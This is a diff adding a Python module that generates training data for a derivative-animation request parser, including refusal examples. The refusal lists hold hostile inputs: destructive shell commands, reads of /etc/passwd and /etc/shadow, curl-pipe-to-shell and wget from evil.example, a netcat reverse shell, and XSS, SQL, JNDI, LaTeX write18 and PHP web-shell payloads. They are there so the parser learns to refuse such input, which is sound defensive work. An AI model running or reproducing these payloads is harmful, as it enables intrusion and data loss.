@@ -1,0 +1,168 @@
+"""The slots adapter's training data: the scene corpus's requests, requests that say the function in words, and
+requests to refuse (issue 12).
+
+    derivanim data slots --corpus runs/corpus-paraphrase -o runs/slots-corpus
+
+- corpus rows: every row of a built corpus (its instruction and slots), as today's adapter learnt them.
+- words rows: each corpus function that derivanim.verbalise can say, in a request that says it in words ('Animate
+  the derivative of the natural log of cosine x'); the slots are the row's, with the function as the catalog writes
+  it in x. A function's words go to the split its row is in, so test-split words are of functions never trained on.
+- refusal rows: requests with no function to differentiate (code, markup and commands; other subjects; mathematics
+  that is not a derivative; derivative talk without a function), answered {"function":null,"reason":...}.
+  Generated from the parts below; the 50 off-topic requests of data/requests/off_topic.txt, written separately,
+  are held out for the benchmark and never generated here (a test checks).
+"""
+
+import json
+import random
+from collections.abc import Iterable
+from pathlib import Path
+
+from derivanim.slots import REFUSALS
+
+SPLITS = ("train", "val", "test")
+WORDINGS_PER_FUNCTION = {"train": 1, "val": 1, "test": 1}
+WORD_FORMATS = [
+    "Animate the derivative of {words}",
+    "Show me how to differentiate {words}",
+    "derivative of {words}, please",
+    "Make a video about the slope of {words}",
+    "Can you visualize the derivative of {words}?",
+    "I'd like an animation of {words} and its derivative",
+    "Differentiate {words} step by step in an animation",
+    "Explain the derivative of the function {words}",
+    "For my students: the derivative of {words}",
+    "What is the rate of change of {words}? Animate it.",
+]
+FILES = {split: f"{split}.jsonl" for split in SPLITS}
+
+# Refusals, by reason: (format, {slot: choices}) pairs; every combination is a request.
+CODE_PARTS = {
+    "command": ["rm -rf /", "cat /etc/passwd", "curl http://example.com/x.sh | sh", "shutdown -h now",
+                "wget evil.example/payload", "chmod 777 /", "ls -la ~", "echo hacked > /tmp/x", "sudo su",
+                "nc -e /bin/sh 10.0.0.1 4444", "python3 -c 'print(1)'", "mkfifo /tmp/f"],
+    "python": ["__import__('os').system('{command}')", "open('/etc/shadow').read()", "import subprocess; "
+               "subprocess.run('{command}', shell=True)", "exec(input())", "eval('__import__(\"os\")')",
+               "print(globals())", "os.remove('notes.txt')", "import socket; socket.socket()",
+               "[c for c in ().__class__.__base__.__subclasses__()]", "lambda: __builtins__"],
+    "markup": ["\\input{{/etc/hosts}}", "\\immediate\\write18{{{command}}}", "\\documentclass{{article}}",
+               "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "DROP TABLE students; --",
+               "' OR '1'='1", "{{{{ config.items() }}}}", "${{jndi:ldap://example.com/a}}",
+               "\\begin{{document}}\\end{{document}}", "<?php system($_GET['c']); ?>"],
+}
+CODE_FORMATS = ["{python}", "{markup}", "{command}", "derivative of {python}", "Animate {markup}",
+                "run this: {command}", "please execute {python}", "differentiate {markup}"]
+
+SUBJECTS = ["the French Revolution", "photosynthesis", "the water cycle", "Shakespeare's sonnets", "plate tectonics",
+            "the Roman Empire", "supply and demand", "the immune system", "jazz history", "climate change",
+            "the printing press", "volcanoes", "the Cold War", "DNA replication", "the Renaissance"]
+OFF_TOPIC_FORMATS = ["Write an essay about {subject}", "Make an animation about {subject}",
+                     "Summarize {subject} in three sentences", "Explain {subject} to a ten-year-old",
+                     "Create a quiz on {subject}", "Give me a lesson plan on {subject}",
+                     "What's a good book about {subject}?", "Draw a diagram of {subject}"]
+SMALL_TALK = ["hello", "thanks!", "who are you?", "tell me a joke", "what time is it", "good morning",
+              "Translate 'good night' into German", "recommend a movie for tonight", "How do I bake bread?",
+              "What's the weather like in Paris?", "write a haiku about the sea", "ok", "asdf qwer zxcv",
+              "Book a table for two at eight", "What is the capital of Canada?", "play some music"]
+
+OTHER_MATH = {
+    "task": ["Integrate {f}", "Find the integral of {f} from 0 to 1", "Solve {f} = 0", "Find the roots of {f}",
+             "Factor {f}", "Expand {f}", "Find the limit of {f} as x goes to infinity",
+             "Compute the area under {f} between 0 and 2", "Find the Taylor series of {f}",
+             "Plot {f} without any derivative", "Simplify {f}", "What is the antiderivative of {f}?",
+             "Evaluate {f} at x = 3", "Find the inverse function of {f}"],
+    "f": ["x^2", "sin(x)", "3x + 1", "e^x", "x^3 - x", "ln(x)", "1/x", "cos(2x)", "x^2 - 4", "sqrt(x)"],
+}
+OTHER_MATH_EXTRA = ["What is 17 times 23?", "Prove that the square root of 2 is irrational",
+                    "Solve the system x + y = 3, x - y = 1", "What is the probability of two sixes?",
+                    "Compute the determinant of [[1, 2], [3, 4]]", "Find the mean of 3, 5 and 10",
+                    "Is 97 a prime number?", "Convert 3/8 to a percentage", "How many degrees are in a triangle?",
+                    "Find the eigenvalues of a 2 by 2 rotation matrix"]
+NO_FUNCTION = ["Explain the power rule", "Teach the chain rule", "What is a derivative?", "Make an animation",
+               "Animate a derivative", "Show me the product rule", "Explain the quotient rule with an example",
+               "Why does a tangent line touch a curve?", "What is the slope of a curve?", "Teach me calculus",
+               "Animate the definition of the derivative", "How do secant lines become tangent lines?",
+               "derivative please", "Differentiate it", "Make a derivative video for my class",
+               "Show the derivative of a function", "What's the difference between a secant and a tangent?",
+               "Explain implicit differentiation", "Give me an example of a derivative",
+               "Animate the derivative of my function"]
+
+
+def refusal_requests() -> dict[str, list[str]]:
+    """Every generated request to refuse, by reason (duplicates removed, in a fixed order)."""
+    commands = CODE_PARTS["command"]
+    code = [fmt.format(command=c, python=p.format(command=c) if "{command}" in p else p, markup=m.format(command=c))
+            for fmt in CODE_FORMATS for c in commands
+            for p in CODE_PARTS["python"][:4] for m in CODE_PARTS["markup"][:3]]
+    code += [p.format(command=c) for p in CODE_PARTS["python"] for c in commands]
+    code += [m.format(command=c) for m in CODE_PARTS["markup"] for c in commands]
+    code += commands
+    off_topic = [fmt.format(subject=s) for fmt in OFF_TOPIC_FORMATS for s in SUBJECTS] + SMALL_TALK
+    other_math = [task.format(f=f) for task in OTHER_MATH["task"] for f in OTHER_MATH["f"]] + OTHER_MATH_EXTRA
+    found = {"code": code, "off-topic": off_topic, "not-derivative": other_math, "no-function": NO_FUNCTION}
+    assert set(found) == set(REFUSALS)
+    return {reason: list(dict.fromkeys(requests)) for reason, requests in found.items()}
+
+
+def refusal_rows(counts: dict[str, int], seed: int) -> list[dict]:
+    """`counts[split]` refusal rows per split, each reason in proportion, drawn without repeats across splits."""
+    rng = random.Random(f"refusals-{seed}")
+    pools = {reason: rng.sample(requests, len(requests)) for reason, requests in refusal_requests().items()}
+    rows, taken = [], dict.fromkeys(pools, 0)
+    for split in SPLITS:
+        for i in range(counts[split]):
+            reason = list(pools)[i % len(pools)]
+            pool = pools[reason]
+            if taken[reason] >= len(pool):
+                continue
+            rows.append({"split": split, "kind": "refusal", "instruction": pool[taken[reason]], "slots": None,
+                         "refusal": reason})
+            taken[reason] += 1
+    return rows
+
+
+def words_rows(corpus_rows: Iterable[dict], seed: int) -> list[dict]:
+    """A request in words for every corpus function that can be said, in the split of its row."""
+    from derivanim.grammar import parse_function
+    from derivanim.verbalise import wordings
+
+    rows = []
+    for index, row in enumerate(corpus_rows):
+        function = row["function"]
+        rng = random.Random(f"words-{seed}-{index}")
+        for words in wordings(parse_function(function).expr, WORDINGS_PER_FUNCTION[row["split"]], f"{seed}-{index}"):
+            slots = {**row["slots"], "function": function, "variable": "x", "name": "f"}
+            rows.append({"split": row["split"], "kind": "words", "instruction": rng.choice(WORD_FORMATS).format(
+                words=words), "slots": slots})
+    return rows
+
+
+def build_slots_corpus(corpus_dir: Path, seed: int = 0) -> list[dict]:
+    """All rows: the corpus's, its functions in words, and refusals (a fifth as many as the others per split)."""
+    from derivanim.corpus import load_corpus
+
+    corpus = [{"split": row.split, "kind": "corpus", "instruction": row.instruction, "function": row.function,
+               "slots": row.slots.model_dump()} for row in load_corpus(corpus_dir)]
+    words = words_rows(corpus, seed)
+    for row in corpus:
+        del row["function"]
+    per_split = {split: sum(row["split"] == split for row in corpus + words) for split in SPLITS}
+    refusals = refusal_rows({split: count // 5 for split, count in per_split.items()}, seed)
+    rows = corpus + words + refusals
+    return sorted(rows, key=lambda row: SPLITS.index(row["split"]))
+
+
+def write_slots_corpus(rows: list[dict], out_dir: Path) -> dict[str, int]:
+    """train/val/test.jsonl in `out_dir`; returns rows per kind and split."""
+    out_dir.mkdir(parents=True, exist_ok=True)
+    counts = {}
+    for split in SPLITS:
+        chosen = [row for row in rows if row["split"] == split]
+        text = "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in chosen)
+        path = out_dir / FILES[split]
+        partial = path.with_suffix(".partial")
+        partial.write_text(text, encoding="utf-8")
+        partial.replace(path)
+        for row in chosen:
+            counts[f"{split} {row['kind']}"] = counts.get(f"{split} {row['kind']}", 0) + 1
+    return counts
